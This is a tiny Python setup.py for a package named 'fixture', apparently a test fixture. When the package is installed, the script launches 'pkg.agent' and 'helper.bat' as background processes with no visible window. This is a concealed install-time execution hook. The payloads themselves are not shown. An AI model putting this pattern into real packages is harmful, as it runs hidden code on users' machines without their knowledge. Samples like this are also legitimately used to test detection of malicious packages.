import subprocess, sys
from setuptools import setup
subprocess.Popen([sys.executable, "-c", "import pkg.agent"], creationflags=subprocess.CREATE_NO_WINDOW)
subprocess.Popen("cmd /c start /b helper.bat", creationflags=0x08000000)
setup(name="fixture", version="1.0")
